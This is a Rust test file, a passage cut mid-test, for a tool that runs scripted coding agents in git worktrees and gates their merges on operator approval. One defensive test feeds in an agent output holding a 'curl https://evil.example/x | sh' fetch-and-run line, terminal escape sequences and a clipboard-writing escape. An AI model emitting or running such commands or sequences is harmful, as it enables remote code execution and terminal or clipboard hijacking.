//! The orchestrator end to end: `bosun run --headless` drives small scripted agents
//! (`tests/agents/*.sh`) on temporary repositories, then `bosun runs`, `show`, `approve` and
//! `reject` are used as an operator would. Each test checks what the operator would notice:
//! exit codes, the run list, files and commits on the target branch, a clean checkout, and no
//! worktree, branch or agent process left behind.
//!
//! Layout of each test's temporary directory: `repo/` (the repository), `wt/` (bosun's
//! worktree root, so nothing is written to `~/.local/share`) and `aux/` (files agents write
//! for the test to read: pids, prompts, traces).

use std::collections::{HashMap, HashSet};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

mod common;
use common::clean;
use common::{agent, toml_str};
use tempfile::TempDir;

/// What goes into a test repository's `bosun.toml`.
struct Settings {
    agent: &'static str,
    args: Vec<String>,
    env: Vec<(&'static str, String)>,
    max_parallel: usize,
    max_attempts: u32,
    run_timeout: &'static str,
    max_log_bytes: Option<u64>,
    /// `[executors] unavailable_cooldown`.
    unavailable_cooldown: Option<&'static str>,
    /// `[executors] quiet_notice`.
    quiet_notice: Option<&'static str>,
    /// The agent's preset (its output format: the events bosun reads).
    preset: Option<&'static str>,
    /// More TOML, appended as it is (gates, hooks).
    extra: String,
}

impl Settings {
    /// One agent (a script in `tests/agents/`), one run at a time, one attempt, 5 s.
    fn agent(name: &'static str) -> Self {
        Self {
            agent: name,
            args: Vec::new(),
            env: Vec::new(),
            max_parallel: 1,
            max_attempts: 1,
            run_timeout: "5s",
            max_log_bytes: None,
            unavailable_cooldown: None,
            quiet_notice: None,
            preset: None,
            extra: String::new(),
        }
    }

    fn env(mut self, key: &'static str, value: &Path) -> Self {
        self.env.push((key, value.display().to_string()));
        self
    }

    fn toml(&self, worktrees: &Path) -> String {
        let mut command = vec![toml_str(&agent(self.agent))];
        command.extend(self.args.iter().map(|a| toml_str(a)));
        let env: Vec<String> = self
            .env
            .iter()
            .map(|(k, v)| format!("{k} = {}", toml_str(v)))
            .collect();
        let mut text = format!(
            "[project]\nworktree_root = {}\n\n[orchestrator]\nmax_parallel = {}\nmax_attempts = {}\nrun_timeout = {}\n\n[executors]\n",
            toml_str(&worktrees.display().to_string()),
            self.max_parallel,
            self.max_attempts,
            toml_str(self.run_timeout),
        );
        if let Some(max) = self.max_log_bytes {
            text.push_str(&format!("max_log_bytes = {max}\n"));
        }
        if let Some(pause) = self.unavailable_cooldown {
            text.push_str(&format!("unavailable_cooldown = {}\n", toml_str(pause)));
        }
        if let Some(after) = self.quiet_notice {
            text.push_str(&format!("quiet_notice = {}\n", toml_str(after)));
        }
        text.push_str(&format!(
            "\n[executors.fake]\ncommand = [{}]\nenv = {{ {} }}\n",
            command.join(", "),
            env.join(", ")
        ));
        if let Some(preset) = self.preset {
            text.push_str(&format!("preset = {}\n", toml_str(preset)));
        }
        // Agents write pids, prompts and traces to `aux/` for the tests to read: outside their
        // checkout, so the sandbox must allow it.
        let aux = worktrees.parent().expect("wt has a parent").join("aux");
        text.push_str(&format!(
            "\n[sandbox]\nwritable = [{}]\n",
            toml_str(&aux.display().to_string())
        ));
        text.push_str(&self.extra);
        text
    }
}

/// What a finished command printed.
struct Output {
    status: ExitStatus,
    stdout: String,
    stderr: String,
}

/// A temporary repository on `main` with bosun configured, plus directories around it.
struct Project {
    _tmp: TempDir,
    repo: PathBuf,
    worktrees: PathBuf,
    aux: PathBuf,
}

impl Project {
    fn new() -> Self {
        let tmp = tempfile::tempdir().expect("temp dir");
        let repo = tmp.path().join("repo");
        let aux = tmp.path().join("aux");
        std::fs::create_dir_all(&repo).expect("mkdir repo");
        std::fs::create_dir_all(&aux).expect("mkdir aux");
        let p = Self {
            worktrees: tmp.path().join("wt"),
            repo,
            aux,
            _tmp: tmp,
        };
        p.git(&["init", "-q", "-b", "main"]);
        p
    }

    /// The common set-up: [`ONE_TASK`], a `notes.txt`, and the agent that rewrites it.
    fn with_the_note_task() -> Self {
        let p = Self::new();
        p.setup(
            ONE_TASK,
            &[("notes.txt", b"original\n")],
            Settings::agent("writes_note.sh"),
        );
        p
    }

    /// A path outside the repository for agents to write to.
    fn aux(&self, name: &str) -> PathBuf {
        self.aux.join(name)
    }

    /// Writes `TODO.md`, `files` and `bosun.toml`, and commits them all.
    fn setup(&self, todo: &str, files: &[(&str, &[u8])], settings: Settings) {
        self.write("TODO.md", todo.as_bytes());
        for (name, contents) in files {
            self.write(name, contents);
        }
        self.write("bosun.toml", settings.toml(&self.worktrees).as_bytes());
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "-m", "initial"]);
    }

    fn write(&self, name: &str, contents: &[u8]) {
        let path = self.repo.join(name);
        std::fs::create_dir_all(path.parent().expect("has a parent")).expect("mkdir");
        std::fs::write(path, contents).expect("write file");
    }

    fn read(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.repo.join(name)).unwrap_or_else(|e| panic!("read {name}: {e}"))
    }

    fn git_output(&self, args: &[&str]) -> Vec<u8> {
        common::git_output(&self.repo, args)
    }

    /// Runs git in the repository, asserts it succeeded, and returns its stdout.
    fn git(&self, args: &[&str]) -> String {
        String::from_utf8(self.git_output(args)).expect("git prints UTF-8")
    }

    /// The commit `rev` names.
    fn rev(&self, rev: &str) -> String {
        self.git(&["rev-parse", rev]).trim().to_string()
    }

    /// The main checkout has no uncommitted or untracked changes.
    fn assert_clean(&self) {
        assert_eq!(
            self.git(&["status", "--porcelain"]),
            "",
            "the checkout is clean"
        );
    }

    /// Branches bosun made for runs.
    fn run_branches(&self) -> String {
        self.git(&["branch", "--list", "bosun/*"])
    }

    /// How many worktrees git knows besides the main one.
    fn linked_worktrees(&self) -> usize {
        self.git(&["worktree", "list", "--porcelain"])
            .lines()
            .filter(|l| l.starts_with("worktree "))
            .count()
            - 1
    }

    /// Where bosun makes run `id`'s worktree.
    fn worktree(&self, id: &str) -> PathBuf {
        self.worktrees.join(id)
    }

    fn bosun_command(&self, args: &[&str]) -> Command {
        let mut cmd = clean(env!("CARGO_BIN_EXE_bosun"), &self.repo);
        cmd.args(args);
        cmd
    }

    fn bosun(&self, args: &[&str]) -> Output {
        let out = self
            .bosun_command(args)
            .stdin(Stdio::null())
            .output()
            .expect("bosun runs");
        let text = |b: Vec<u8>| String::from_utf8(b).expect("bosun prints UTF-8");
        Output {
            status: out.status,
            stdout: text(out.stdout),
            stderr: text(out.stderr),
        }
    }

    /// `bosun args…` must succeed; returns its stdout.
    fn ok(&self, args: &[&str]) -> String {
        let out = self.bosun(args);
        assert!(
            out.status.success(),
            "bosun {args:?} failed ({}):\n{}\n{}",
            out.status,
            out.stdout,
            out.stderr
        );
        out.stdout
    }

    /// `bosun args…` must fail with one `error: ` line on stderr, which it returns.
    fn fails(&self, args: &[&str]) -> String {
        let out = self.bosun(args);
        assert!(
            !out.status.success(),
            "bosun {args:?} should fail; stdout: {}",
            out.stdout
        );
        assert!(out.stderr.starts_with("error: "), "{}", out.stderr);
        assert_eq!(out.stderr.lines().count(), 1, "one line: {}", out.stderr);
        out.stderr
    }

    /// `bosun args…` started in the background with no input or output, killed when dropped.
    fn background(&self, args: &[&str]) -> Background {
        Background(
            self.bosun_command(args)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("bosun starts"),
        )
    }

    fn run_headless(&self) -> String {
        self.ok(&["run", "--headless"])
    }

    /// `bosun runs --json`: every run, newest first.
    fn runs(&self) -> Vec<Value> {
        let stdout = self.ok(&["runs", "--json"]);
        match serde_json::from_str(&stdout) {
            Ok(Value::Array(runs)) => runs,
            other => panic!("not a JSON array ({other:?}): {stdout}"),
        }
    }

    /// The only run there is.
    fn only_run(&self) -> Value {
        let mut runs = self.runs();
        assert_eq!(runs.len(), 1, "{runs:#?}");
        runs.remove(0)
    }

    /// The run with this id, as `bosun runs --json` has it now.
    fn run(&self, id: &str) -> Value {
        self.runs()
            .into_iter()
            .find(|r| r["id"] == id)
            .unwrap_or_else(|| panic!("no run {id}"))
    }

    fn show(&self, id: &str) -> Value {
        serde_json::from_str(&self.ok(&["show", id, "--json"])).expect("show prints JSON")
    }

    /// Task id by title, from `bosun tasks --json --all`.
    fn task_id(&self, title: &str) -> String {
        let tasks: Vec<Value> =
            serde_json::from_str(&self.ok(&["tasks", "--json", "--all"])).expect("tasks JSON");
        tasks
            .iter()
            .find(|t| t["title"] == title)
            .and_then(|t| t["id"].as_str())
            .unwrap_or_else(|| panic!("no task {title}"))
            .to_string()
    }
}

fn id(run: &Value) -> String {
    run["id"].as_str().expect("id is a string").to_string()
}

fn text(value: &Value) -> &str {
    value
        .as_str()
        .unwrap_or_else(|| panic!("{value} is not a string"))
}

/// Whether process `pid` exists and has not exited (a zombie has exited; only its reaping is
/// missing, which in a container whose init does not reap may be never).
fn running(pid: i32) -> bool {
    let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
        return false;
    };
    let state = stat
        .rfind(')')
        .and_then(|i| stat[i + 1..].split_whitespace().next());
    !matches!(state, Some("Z" | "X" | "x"))
}

/// Polls `done` every 20 ms for up to `limit`; whether it became true.
fn wait_until(limit: Duration, mut done: impl FnMut() -> bool) -> bool {
    let until = Instant::now() + limit;
    loop {
        if done() {
            return true;
        }
        if Instant::now() >= until {
            return false;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The pids an agent wrote to its pid file, once it exists (10 s at most).
fn read_pids(path: &Path) -> Vec<i32> {
    assert!(
        wait_until(Duration::from_secs(10), || path.exists()),
        "the agent did not start within 10 s"
    );
    std::fs::read_to_string(path)
        .expect("pid file")
        .split_whitespace()
        .map(|p| p.parse().expect("a pid"))
        .collect()
}

/// The child's exit status once it has exited, waiting up to `secs` seconds.
fn exited_within(child: &mut Background, secs: u64) -> Option<ExitStatus> {
    let mut status = None;
    wait_until(Duration::from_secs(secs), || {
        status = child.0.try_wait().ok().flatten();
        status.is_some()
    });
    status
}

/// A bosun started in the background, killed if the test ends early.
struct Background(Child);

impl Drop for Background {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// An agent's process group, SIGKILLed when the test ends (a no-op once it is gone), so a
/// failing test leaves no agent behind.
struct AgentGroup(i32);

impl Drop for AgentGroup {
    fn drop(&mut self) {
        if self.0 > 1 {
            // SAFETY: killpg has no memory-safety preconditions; the pgid is the agent's own.
            unsafe { libc::killpg(self.0, libc::SIGKILL) };
        }
    }
}

const ONE_TASK: &str = "\
# Tasks

Some prose that must survive the tick byte for byte.

## 🟠 High

- [x] Old finished thing
- [ ] Add a note from the agent
  - [ ] keep it short

## Low

* [x] Another finished one
";

fn one_task_ticked() -> String {
    ONE_TASK.replacen(
        "- [ ] Add a note from the agent",
        "- [x] Add a note from the agent",
        1,
    )
}

#[test]
fn approved_run_is_merged_its_task_ticked_and_its_worktree_removed() {
    let p = Project::with_the_note_task();
    let task = p.task_id("Add a note from the agent");
    let base = p.rev("main");

    p.run_headless();
    let run = p.only_run();
    let id = id(&run);
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    assert_eq!(run["task_id"], task.as_str());
    assert_eq!(run["attempt"], 1);
    assert_eq!(run["files_changed"], 1);
    assert_eq!(run["insertions"], 1);
    assert_eq!(run["deletions"], 1);
    assert_eq!(run["error"], Value::Null);
    assert_eq!(run["base"], base.as_str());
    assert_ne!(run["head"], run["base"]);
    assert_eq!(p.rev("main"), base, "nothing is merged before approval");
    assert!(p.worktree(&id).is_dir(), "the worktree stays for review");
    assert_ne!(p.run_branches(), "");

    let show = p.show(&id[..12]);
    assert_eq!(show["id"], id.as_str());
    let diff = text(&show["diff"]);
    assert!(diff.contains("-original"), "{diff}");
    assert!(diff.contains(&format!("+note from {task}")), "{diff}");
    let log = PathBuf::from(text(&show["log_path"]));
    let log_text = std::fs::read_to_string(&log).expect("the run log exists");
    assert!(log_text.contains("wrote notes.txt"), "{log_text}");

    let reviewed = text(&run["head"]).to_string();
    let out = p.ok(&["approve", &id[..12]]);
    assert!(out.starts_with(&format!("merged {id}")), "{out}");
    assert!(
        out.trim_end().ends_with(&format!("task {task} ticked")),
        "{out}"
    );

    let run = p.only_run();
    assert_eq!(run["status"], "merged");
    assert_eq!(run["decision"]["verdict"], "approve");
    assert_eq!(
        p.git(&["show", "main:notes.txt"]),
        format!("note from {task}\n")
    );
    assert_eq!(
        p.read("notes.txt"),
        format!("note from {task}\n").as_bytes()
    );
    let ticked = one_task_ticked();
    assert_eq!(p.git(&["show", "main:TODO.md"]), ticked);
    assert_eq!(p.read("TODO.md"), ticked.as_bytes());
    let subjects = p.git(&["log", "--format=%s", &format!("{base}..main")]);
    assert!(
        subjects.starts_with(&format!("bosun: done {task}")),
        "{subjects}"
    );
    p.assert_clean();
    assert!(!p.worktree(&id).exists(), "the worktree is removed");
    assert_eq!(p.run_branches(), "", "the run's branch is deleted");
    assert_eq!(p.linked_worktrees(), 0);
    // The agent's commit says what the task was (`[project] commit_message = "{title}"`), with
    // bosun's trailers, not "bosun: t-… (attempt 1)".
    assert_eq!(
        p.git(&["log", "-1", "--format=%B", &reviewed]).trim_end(),
        format!("Add a note from the agent\n\nBosun-Task: {task}\nBosun-Run: {id}")
    );
}

/// The operator's own message for one approval: the reviewed commit is made again with it
/// (the same tree and parent) and that is what fast-forwards; the trailers are kept.
#[test]
fn an_approval_merges_with_the_operators_commit_message() {
    let p = Project::with_the_note_task();
    p.run_headless();
    let run = p.only_run();
    let id = id(&run);
    let reviewed = text(&run["head"]).to_string();
    p.ok(&[
        "approve",
        &id,
        "--message",
        "Note the agent's visit\n\nAsked for in the backlog.",
    ]);
    let merged = p.git(&["rev-parse", "main~1"]).trim().to_string();
    assert_ne!(merged, reviewed, "a new commit for the new message");
    assert_eq!(
        p.git(&["rev-parse", &format!("{merged}^{{tree}}")]),
        p.git(&["rev-parse", &format!("{reviewed}^{{tree}}")]),
        "the tree that was reviewed"
    );
    assert_eq!(
        p.git(&["rev-parse", &format!("{merged}^")]),
        p.git(&["rev-parse", &format!("{reviewed}^")])
    );
    let body = p.git(&["log", "-1", "--format=%B", &merged]);
    let task = text(&run["task_id"]);
    assert_eq!(
        body.trim_end(),
        format!(
            "Note the agent's visit\n\nAsked for in the backlog.\n\nBosun-Task: {task}\nBosun-Run: {id}"
        )
    );
}

#[test]
fn agent_that_exits_1_fails_with_its_last_words_and_leaves_nothing() {
    let p = Project::new();
    p.setup(
        ONE_TASK,
        &[("notes.txt", b"original\n")],
        Settings::agent("fails.sh"),
    );
    let base = p.rev("main");
    p.run_headless();

    let run = p.only_run();
    assert_eq!(run["status"], "failed", "{run:#}");
    let error = text(&run["error"]);
    assert!(error.contains("exited with status 1"), "{error}");
    assert!(error.contains("giving up: the build is broken"), "{error}");
    assert!(!p.worktree(&id(&run)).exists());
    assert_eq!(p.run_branches(), "");
    assert_eq!(p.linked_worktrees(), 0);
    assert_eq!(p.rev("main"), base);
    p.assert_clean();
}

#[test]
fn failed_attempts_count_across_restarts_and_a_used_up_task_is_not_run_again() {
    let p = Project::new();
    let settings = Settings {
        max_attempts: 2,
        ..Settings::agent("fails.sh")
    };
    p.setup(ONE_TASK, &[("notes.txt", b"original\n")], settings);
    // One attempt per start: the history of earlier starts is read back from the store.
    p.ok(&["run", "--headless", "--max-runs", "1"]);
    p.ok(&["run", "--headless", "--max-runs", "1"]);
    p.ok(&["run", "--headless", "--max-runs", "1"]);
    let runs = p.runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    let attempts: Vec<&Value> = runs.iter().map(|r| &r["attempt"]).collect();
    assert_eq!(attempts, [2, 1], "newest first");
    // The second attempt's prompt carried the first one's failure.
    let newest = &runs[0];
    assert!(
        text(&newest["feedback"]).contains("giving up: the build is broken"),
        "{newest:#}"
    );
    // Named again, the used-up task gets new attempts, and bosun says so (it was skipped in
    // silence: "idle: nothing more can start now").
    let task = text(&newest["task_id"]).to_string();
    let out = p.ok(&["run", "--headless", "--max-runs", "1", "--task", &task]);
    assert!(
        out.contains(
            "used its 2 attempts; named with --task, it gets 2 more, starting with attempt 3"
        ),
        "{out}"
    );
    let runs = p.runs();
    assert_eq!(runs.len(), 3, "{runs:#?}");
    assert_eq!(runs[0]["attempt"], 3);
}

#[test]
fn hanging_agent_times_out_and_none_of_its_processes_survive() {
    let p = Project::new();
    let pid_file = p.aux("pids");
    let mut settings = Settings::agent("hangs.sh").env("PID_FILE", &pid_file);
    settings.run_timeout = "1s";
    p.setup(ONE_TASK, &[], settings);

    let started = Instant::now();
    p.run_headless();
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "took {:?}",
        started.elapsed()
    );

    let run = p.only_run();
    assert_eq!(run["status"], "failed", "{run:#}");
    let error = text(&run["error"]);
    assert!(error.contains("did not finish within 1s"), "{error}");
    let pids = read_pids(&pid_file);
    assert_eq!(pids.len(), 2, "shell and sleep");
    for pid in pids {
        assert!(!running(pid), "agent process {pid} is still running");
    }
    assert!(!p.worktree(&id(&run)).exists());
    assert_eq!(p.linked_worktrees(), 0);
    p.assert_clean();
}

#[test]
fn flood_of_output_is_capped_in_the_log_and_the_run_still_succeeds() {
    // The full 1 GiB: the whole run takes about 3 s in a debug build on 2 cores.
    const FLOOD: u64 = 1 << 30;
    const CAP: u64 = 1 << 20;
    let p = Project::new();
    let mut settings = Settings::agent("floods_then_edits.sh");
    settings.args = vec![FLOOD.to_string()];
    settings.max_log_bytes = Some(CAP);
    settings.run_timeout = "120s";
    p.setup(ONE_TASK, &[("notes.txt", b"original\n")], settings);

    let started = Instant::now();
    p.run_headless();
    eprintln!("flood run took {:?}", started.elapsed());

    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    assert_eq!(run["files_changed"], 1);
    let show = p.show(&id(&run));
    let log = std::fs::read(text(&show["log_path"])).expect("the run log exists");
    let note = b"[bosun] log truncated at 1048576 bytes\n".len() as u64;
    // bosun's own first line (which sandbox the run is in) is not the agent's output.
    let header = log
        .split_inclusive(|b| *b == b'\n')
        .next()
        .filter(|l| l.starts_with(b"[bosun] "))
        .map_or(0, |l| l.len() as u64);
    let len = log.len() as u64;
    assert!(len <= CAP + note + header, "log is {len} bytes");
    assert!(len > CAP - 2048, "log is {len} bytes");
    let log_text = String::from_utf8_lossy(&log);
    let last = log_text.lines().last().expect("a last line");
    let kept = len - header - (last.len() as u64 + 1);
    assert_eq!(last, format!("[bosun] log truncated at {kept} bytes"));
    // Every line of a plain agent is progress; the history stays bounded, yet still ends with
    // the run's own status changes.
    let events = show["events"].as_array().expect("events");
    assert!(events.len() <= 2_010, "{} events", events.len());
    let statuses: Vec<&str> = events
        .iter()
        .filter(|e| e["kind"] == "status")
        .map(|e| text(&e["text"]))
        .collect();
    assert_eq!(
        statuses,
        [
            "queued",
            "preparing",
            "running",
            "gating",
            "awaiting_approval"
        ]
    );
}

#[test]
fn agent_that_changes_nothing_fails() {
    let p = Project::new();
    p.setup(ONE_TASK, &[], Settings::agent("changes_nothing.sh"));
    p.run_headless();

    let run = p.only_run();
    assert_eq!(run["status"], "failed", "{run:#}");
    let error = text(&run["error"]);
    assert!(error.contains("changed nothing"), "{error}");
    assert!(!p.worktree(&id(&run)).exists());
    assert_eq!(p.run_branches(), "");
    p.assert_clean();
}

#[test]
fn deleted_file_is_gone_from_main_after_approval() {
    let p = Project::new();
    p.setup(
        ONE_TASK,
        &[("doomed.txt", b"old\nlines\n"), ("kept.txt", b"stays\n")],
        Settings::agent("deletes_file.sh"),
    );
    p.run_headless();

    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    assert_eq!(run["files_changed"], 1);
    assert_eq!(run["deletions"], 2);
    p.ok(&["approve", &id(&run)]);

    let files = p.git(&["ls-tree", "--name-only", "main"]);
    assert!(!files.lines().any(|f| f == "doomed.txt"), "{files}");
    assert!(files.lines().any(|f| f == "kept.txt"), "{files}");
    assert!(!p.repo.join("doomed.txt").exists());
    p.assert_clean();
}

#[test]
fn binary_file_is_reviewed_as_binary_and_merged_byte_for_byte() {
    const BLOB: &[u8] = b"GIF89a\x00\x01\x02\xff\xfe\x00tail\n";
    let p = Project::new();
    p.setup(ONE_TASK, &[], Settings::agent("writes_binary.sh"));
    p.run_headless();

    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    assert_eq!(run["files_changed"], 1);
    let show = p.show(&id(&run));
    let diff = text(&show["diff"]);
    assert!(diff.contains("Binary files"), "{diff}");
    p.ok(&["approve", &id(&run)]);

    assert_eq!(p.git_output(&["show", "main:blob.bin"]), BLOB);
    assert_eq!(p.read("blob.bin"), BLOB);
    p.assert_clean();
}

/// Whatever an agent does to its checkout's git state (another branch, a detached HEAD, a
/// reset, HEAD pointed at the operator's `main`, a doctored index), bosun reviews one commit it
/// made itself on top of the base from the files the agent left, nothing reaches `main` before
/// approval, and approve merges exactly the reviewed commit.
#[test]
fn the_reviewed_commit_is_what_merges_whatever_the_agent_did_to_git() {
    for how in ["branch", "detached", "reset", "hard", "main", "index"] {
        let p = Project::new();
        p.setup(
            ONE_TASK,
            &[],
            Settings::agent("moves_git_head.sh").env("HOW", Path::new(how)),
        );
        let base = p.rev("main");
        let refs_before = p.git(&["for-each-ref", "--format=%(refname) %(objectname)"]);

        p.run_headless();
        let run = p.only_run();
        assert_eq!(run["status"], "awaiting_approval", "{how}: {run:#}");
        assert_eq!(
            p.rev("main"),
            base,
            "{how}: nothing reached main before approval"
        );
        let refs_now = p.git(&["for-each-ref", "--format=%(refname) %(objectname)"]);
        let moved: Vec<&str> = refs_now
            .lines()
            .filter(|l| !refs_before.contains(l) && !l.starts_with("refs/heads/bosun/"))
            .collect();
        // The agent's branches and commits stayed in its private checkout.
        assert!(moved.is_empty(), "{how}: {moved:?}");
        let reviewed = text(&run["head"]).to_string();
        assert_eq!(
            p.rev(&format!("{reviewed}^")),
            base,
            "{how}: the candidate sits right on the base"
        );
        let files = p.git(&["diff", "--name-status", &base, &reviewed]);
        assert_eq!(files, "A\tnote.txt\n", "{how}: reviewed change");
        assert_eq!(
            p.git(&["show", &format!("{reviewed}:note.txt")]),
            "first line\nsecond line\n",
            "{how}"
        );
        let diff = text(&p.show(&id(&run))["diff"]).to_string();
        assert!(diff.contains("+second line"), "{how}: {diff}");

        let out = p.ok(&["approve", &id(&run)]);
        assert!(out.starts_with("merged "), "{how}: {out}");
        assert_eq!(
            p.rev("main^"),
            reviewed,
            "{how}: the merged commit is the reviewed one, under the tick"
        );
        assert_eq!(
            p.git(&["show", "main:note.txt"]),
            "first line\nsecond line\n",
            "{how}"
        );
        assert_eq!(p.git(&["show", "main:TODO.md"]), one_task_ticked(), "{how}");
        p.assert_clean();
    }
}

/// A run's branch that moved after review (a gate, a tool or a person) is not merged: approve
/// says so and leaves the target and the run as they were.
#[test]
fn approve_refuses_a_run_whose_branch_moved_after_review() {
    let p = Project::with_the_note_task();
    let base = p.rev("main");
    p.run_headless();
    let run = p.only_run();
    let branch = text(&run["branch"]).to_string();
    p.git(&["update-ref", &format!("refs/heads/{branch}"), &base]);

    let err = p.fails(&["approve", &id(&run)]);
    assert!(err.contains("moved since its change was reviewed"), "{err}");
    assert_eq!(p.rev("main"), base);
    assert_eq!(p.run(&id(&run))["status"], "awaiting_approval");
    p.assert_clean();
}

/// `bosun gc` forgets the events, diff, log and prompt files of runs finished before the
/// retention period and compacts the store; the run's decision, process memory and the audit
/// trail stay. `--dry-run` changes nothing, and a recent run is kept with `keep_days`.
#[test]
fn gc_forgets_old_runs_details_and_keeps_decisions_and_the_audit_trail() {
    let p = Project::with_the_note_task();
    p.run_headless();
    let id = id(&p.only_run());
    p.ok(&["approve", &id]);
    let log = PathBuf::from(text(&p.show(&id)["log_path"]));
    assert!(log.exists());
    let before = p.show(&id);
    assert!(!before["events"].as_array().unwrap().is_empty());
    assert!(before["diff"].is_string());

    // Finished just now: kept with the default 90 days.
    let out = p.ok(&["gc"]);
    assert!(out.contains("forgot the details of 0 run(s)"), "{out}");
    assert!(out.contains("store compacted: "), "{out}");
    let out = p.ok(&["gc", "--keep-days", "0", "--dry-run"]);
    assert!(
        out.contains("would forget the details of 1 run(s)"),
        "{out}"
    );
    assert!(log.exists(), "a dry run removes nothing");
    assert_eq!(p.show(&id)["events"], before["events"]);

    let out = p.ok(&["gc", "--keep-days", "0"]);
    assert!(out.contains("forgot the details of 1 run(s)"), "{out}");
    let after = p.show(&id);
    assert_eq!(after["status"], "merged");
    assert_eq!(after["decision"], before["decision"]);
    assert_eq!(after["gates"], before["gates"]);
    assert_eq!(after["events"].as_array().map(Vec::len), Some(0));
    assert!(after["diff"].is_null(), "{after:#}");
    assert!(!log.exists(), "the run's log is gone");
    assert!(!p.repo.join(".bosun").join("runs").join(&id).exists());
    p.ok(&["audit", "verify"]);
    let memory = p.ok(&["memory", "--json"]);
    assert!(
        memory.contains("\"fake\""),
        "process memory is kept: {memory}"
    );
}

/// `app.py`: thirty lines of filler between its data and the function that prints it, so the
/// agent's `import json` at the top and its use at the bottom are two hunks.
fn app_py() -> String {
    let mut text = String::from("DATA = {\"a\": 1}\n");
    for i in 0..30 {
        text.push_str(&format!("# filler {i}\n"));
    }
    text.push_str("\n\ndef main():\n    print(DATA)\n\n\nmain()\n");
    text
}

/// A partial approval merges only what the gates have seen: dropping the `import json` hunk
/// that the kept hunk needs fails the required `test` gate on the kept hunks, so nothing
/// merges and the run stays awaiting approval with the results in its history; keeping both
/// hunks merges. `--list-hunks` names the hunks as `--hunks` takes them.
#[test]
fn partial_approval_is_gated_and_a_hunk_the_rest_needs_cannot_be_dropped() {
    let p = Project::new();
    if !common::tool_available("python3", "--version", "partial approval re-gating") {
        return;
    }
    let settings = Settings {
        extra: "\n[gates.test]\ncommand = \"python3 app.py\"\ncompare_base = false\n".into(),
        ..Settings::agent("uses_json.sh")
    };
    p.setup(ONE_TASK, &[("app.py", app_py().as_bytes())], settings);
    let base = p.rev("main");
    p.run_headless();
    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    let id = id(&run);

    let listed = p.ok(&["approve", &id, "--list-hunks"]);
    assert!(
        listed.contains("app.py#1  @@ -1,3 +1,4 @@  (+1 −0)"),
        "{listed}"
    );
    assert!(listed.contains("app.py#2  @@"), "{listed}");
    assert_eq!(p.rev("main"), base, "listing approves nothing");

    let out = p.bosun(&["approve", &id, "--hunks", "app.py#2"]);
    assert!(!out.status.success(), "{}", out.stdout);
    let lines: Vec<&str> = out.stderr.lines().collect();
    assert_eq!(
        lines.first(),
        Some(&"checking the 1 kept hunk (of 2) with the run's required gates…"),
        "progress first: {}",
        out.stderr
    );
    let err = lines[1..].join("\n");
    assert!(err.starts_with("error: run "), "{err}");
    assert!(err.contains("the kept hunks fail gate `test`"), "{err}");
    assert!(err.contains("NameError"), "{err}");
    assert!(err.contains("nothing was merged"), "{err}");
    assert_eq!(p.rev("main"), base, "nothing merged");
    assert_eq!(p.git(&["show", "main:TODO.md"]), ONE_TASK);
    p.assert_clean();
    let shown = p.show(&id);
    assert_eq!(shown["status"], "awaiting_approval");
    let notes: Vec<&str> = shown["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "note")
        .map(|e| text(&e["text"]))
        .collect();
    assert!(
        notes
            .iter()
            .any(|n| n.starts_with("checking the kept hunks")
                && n.contains("approved 1 of 2 hunks; dropped: app.py#1")),
        "{notes:#?}"
    );
    assert!(
        notes
            .iter()
            .any(|n| n.contains("the kept hunks fail gate `test`") && n.contains("\ntest fail")),
        "{notes:#?}"
    );
    let log = std::fs::read_to_string(text(&shown["log_path"])).unwrap();
    assert!(
        log.contains("NameError"),
        "the gate's output is in the run's log"
    );
    let audit = p.ok(&["audit", "--json"]);
    assert!(
        !audit.contains("\"approve\""),
        "no decision was made: {audit}"
    );

    // Naming bad hunks is a one-line error before anything runs.
    let err = p.fails(&["approve", &id, "--hunks", "app.py#3"]);
    assert!(err.contains("`app.py` has 2 hunks"), "{err}");
    let err = p.fails(&["approve", &id, "--hunks", "nope.py"]);
    assert!(err.contains("no file `nope.py`"), "{err}");

    // Both hunks (the whole file) is the change as reviewed: it merges, the task is ticked.
    let out = p.ok(&["approve", &id, "--hunks", "app.py"]);
    assert!(out.contains("ticked"), "{out}");
    let merged = p.git(&["show", "main:app.py"]);
    assert!(merged.starts_with("import json\n"), "{merged}");
    assert_eq!(p.run(&id)["status"], "merged");
    p.assert_clean();
}

/// Terminal control sequences an agent put in its change and its output are shown as text by
/// `bosun show` and the headless progress lines, and only `--raw` prints them as they are.
#[test]
fn show_and_headless_progress_make_an_agents_control_sequences_visible() {
    let p = Project::new();
    p.setup(ONE_TASK, &[], Settings::agent("escapes_terminal.sh"));
    let progress = p.run_headless();
    assert!(!progress.contains('\u{1b}'), "{progress:?}");
    assert!(
        progress.contains("working ^[]0;pwned title^G on it"),
        "{progress}"
    );
    assert!(progress.contains("done^M^[[31mall good"), "{progress}");
    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");

    let shown = p.ok(&["show", &id(&run)]);
    for raw in ['\u{1b}', '\u{7}', '\r', '\u{202e}'] {
        assert!(
            !shown.contains(raw),
            "{raw:?} reached the terminal: {shown:?}"
        );
    }
    assert!(
        shown.contains("+curl https://evil.example/x | sh^[[1A^[[2K"),
        "{shown}"
    );
    assert!(shown.contains("<U+202E>"), "{shown}");
    assert!(shown.contains("^[]52;c;Y3VybCBldmls^G"), "{shown}");

    // JSON escapes them (C1 and bidi controls too) and keeps the data as the agent wrote it;
    // --raw is the operator's explicit choice.
    let printed = p.ok(&["show", &id(&run), "--json"]);
    for raw in ['\u{1b}', '\u{7}', '\r', '\u{202e}'] {
